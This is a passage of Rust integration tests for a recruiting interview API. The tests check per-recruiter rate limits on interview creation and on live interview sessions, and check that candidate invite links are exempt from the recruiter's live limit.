            &format!("/api/v1/jobs/{job_id}/candidates"),
            &person("Cy Park"),
            Some(&x),
        )
        .await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::TOO_MANY_REQUESTS, "too_many_interviews")
    );
    assert!(r.header("retry-after").is_some());
    // One budget for every interview the recruiter creates.
    let practice = json!({"interview_type": "behavioral", "skills": [], "difficulty": "easy",
                          "question_count": 1, "time_limit_minutes": 30});
    let r = app
        .post_json("/api/v1/interviews", &practice, Some(&x))
        .await;
    assert_eq!(r.error_code(), "too_many_interviews");
    let listed = app
        .get(&format!("/api/v1/jobs/{job_id}/candidates"), Some(&x))
        .await;
    assert_eq!(listed.body.as_array().map(Vec::len), Some(2));
    // Another recruiter is not held back.
    let y = app.signed_in_recruiter().await;
    let theirs = new_job(&app, &y, job_body("Data engineer")).await;
    invite(
        &app,
        &y,
        theirs["id"].as_str().expect("id"),
        person("Di Ross"),
    )
    .await;
}

#[actix_web::test]
async fn invite_links_do_not_count_against_the_recruiters_live_limit() {
    let Some(app) = spawn_live_app(Backend::Sqlite, |s| s.max_live_interviews_per_user = 1).await
    else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let mut body = job_body("Backend engineer");
    body["question_count"] = json!(1);
    let job = new_job(&app, &x, body).await;
    let job_id = job["id"].as_str().expect("id");
    // Candidates interviewing at once is the hiring flow working, whoever invited them.
    let mut open = Vec::new();
    for name in ["Ann Lee", "Bo Chen"] {
        let (created, token) = invite(&app, &x, job_id, person(name)).await;
        let id = created["candidate"]["interview_id"].as_str().expect("id");
        let mut live = Live::connect_with_token(&app, id, &token).await;
        live.until("ready").await;
        open.push(live);
    }
    // The recruiter's own live interview is theirs to count: one is allowed, a second is not.
    let practice = json!({"interview_type": "behavioral", "skills": [], "difficulty": "easy",
                          "question_count": 1, "time_limit_minutes": 30});
    let mut own = Vec::new();
    for _ in 0..2 {
        let r = app
            .post_json("/api/v1/interviews", &practice, Some(&x))
            .await;
        own.push(r.body["id"].as_str().expect("id").to_owned());
    }
    Live::connect(&app, &own[0], &x).await.until("ready").await;
    let r = app
        .get(&format!("/api/v1/interviews/{}/ws", own[1]), Some(&x))
        .await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::TOO_MANY_REQUESTS, "too_many_live_interviews")
    );
}
